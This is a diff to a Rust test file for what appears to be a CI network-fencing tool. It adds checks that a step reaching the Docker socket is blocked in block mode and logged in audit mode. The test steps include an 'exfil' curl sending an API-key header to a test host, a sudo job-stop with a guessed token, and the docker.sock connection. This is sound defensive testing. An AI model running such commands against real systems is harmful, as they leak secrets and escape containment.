@@ -171,6 +171,7 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "earlystop:sudo -n \"$RF\" job stop --token guessed --summary /dev/null",
         "sentinel:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" 'https://allowed.test/headers?reversed=1'",
         "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
+        "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
         "failing:exit 7",
     ];
     let job = play(&net, "block", Via::Cli, &steps);
@@ -200,6 +201,13 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         out("sentinel").contains(&reversed),
         "the proxy swapped the sentinel toward its host: {}",
         out("sentinel")
+    );
+    assert_ne!(job.step("engine"), Some(0), "the container engine is taken away: {}", out("engine"));
+    assert!(out("engine").contains("Permission denied"), "{}", out("engine"));
+    assert!(
+        job.stdout.contains("ENGINE 660:4242"),
+        "the engine's socket is given back at stop: {}",
+        job.stdout
     );
     assert_eq!(job.step("failing"), Some(7));
     assert_eq!(
@@ -256,7 +264,10 @@ fn audit_mode_records_every_step_and_lets_it_through() {
     }
     let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
     let net = FakeInternet::new();
-    let steps = [&format!("denied:{CURL} --cacert \"$SSL_CERT_FILE\" https://denied.test/") as &str];
+    let steps = [
+        &format!("denied:{CURL} --cacert \"$SSL_CERT_FILE\" https://denied.test/") as &str,
+        "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
+    ];
     let job = play(&net, "audit", Via::Cli, &steps);
     assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
     assert_eq!(job.output("denied").trim(), "200", "audit mode lets it through: {}", job.stdout);
@@ -270,6 +281,14 @@ fn audit_mode_records_every_step_and_lets_it_through() {
     });
     assert!(flagged, "the connection is flagged and attributed to curl (pid {curl})");
     assert!(job.out_dir.join("suggested-policy.yml").is_file(), "audit mode proposes a policy");
+    assert!(
+        job.output("engine").contains("engine"),
+        "audit mode leaves the engine alone: {}",
+        job.output("engine")
+    );
+    let engine =
+        job.events().any(|e| matches!(e, Event::PolicyViolation(v) if v.rule == "job.container_engine"));
+    assert!(engine, "a reachable container engine is journaled");
 }
 
 #[test]
